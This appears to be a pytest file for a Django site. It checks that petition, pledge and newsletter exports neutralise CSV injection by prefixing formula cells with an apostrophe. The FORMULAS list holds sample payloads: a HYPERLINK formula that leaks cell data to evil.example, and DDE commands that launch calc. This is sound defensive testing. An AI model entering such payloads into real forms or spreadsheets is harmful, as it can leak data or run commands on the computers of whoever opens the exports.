"""Spreadsheet formulas typed into names (and an address) through the public forms: saved as
typed, exported as plain text. A cell that starts with = + - @ would run in Excel or LibreOffice
(CSV injection); the exports prefix it with an apostrophe. Voices have no export."""

import csv
import io

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# Valid as an address (no spaces), yet a formula to a spreadsheet.
FORMULA_EMAIL = "=1+2@example.org"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def export(client, listing: str, kind: str) -> list[str]:
    response = client.get(listing, {"export": kind})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if kind == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [cell for row in rows for cell in row]
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)  # no cell is stored as a formula
    return [str(cell.value) for cell in cells if cell.value is not None]


@pytest.mark.parametrize("form_name", ["petition", "pledge", "embed"])
def test_formulas_in_signers_names_are_exported_as_text(
    client, forms, form_name, data_staff, settings_for_many_posts
):
    form = forms[form_name]
    for n, formula in enumerate(FORMULAS):
        response = form.post(
            client, first_name=formula, last_name=formula, email=f"f{n}@example.org"
        )
        assert response.status_code == 302
    assert form.post(client, email=FORMULA_EMAIL).status_code == 302
    client.force_login(data_staff)
    for kind in ("csv", "xlsx"):
        cells = export(client, "/admin/signature/", kind)
        assert not [cell for cell in cells if cell.startswith(DANGEROUS)], kind
        for formula in FORMULAS:
            assert cells.count("'" + formula) == 2  # first and last name, kept readable
        assert "'" + FORMULA_EMAIL in cells


def test_formulas_in_subscribers_names_are_exported_as_text(
    client, forms, data_staff, settings_for_many_posts
):
    form = forms["newsletter"]
    for n, formula in enumerate(FORMULAS):
        assert form.post(client, first_name=formula, email=f"f{n}@example.org").status_code == 302
    assert forms["footer"].post(client, email=FORMULA_EMAIL).status_code == 302
    client.force_login(data_staff)
    for kind in ("csv", "xlsx"):
        cells = export(client, "/admin/subscriber/", kind)
        assert not [cell for cell in cells if cell.startswith(DANGEROUS)], kind
        assert {"'" + formula for formula in FORMULAS} <= set(cells)
        assert "'" + FORMULA_EMAIL in cells
